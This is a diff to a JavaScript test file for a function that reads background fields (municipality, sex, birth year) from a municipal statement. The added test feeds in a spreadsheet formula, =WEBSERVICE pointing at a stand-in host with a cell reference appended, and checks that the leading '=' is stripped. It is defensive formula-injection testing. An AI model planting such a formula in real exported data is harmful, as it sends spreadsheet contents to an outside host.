@@ -83,6 +83,10 @@ describe('a statement for a municipality', () => {
       sex: 'kvinde',
       birthYear: 1990,
     });
+    const formula = '=WEBSERVICE("http://elsewhere.example/"&H2)';
+    expect(backgroundOf({ municipality: formula, sex: '', birthYear: '' })).to.deep.equal({
+      municipality: formula.slice(1),
+    });
     expect(backgroundOf({ municipality: '', sex: '?', birthYear: '90' })).to.equal(undefined);
     const ages = [1996, 2009, 1992, 1960, 1900].map((birthYear) => ageGroupIn(2026, { birthYear }));
     expect(ages).to.deep.equal(['30-34', '0-17', '30-34', '60+', '60+']);
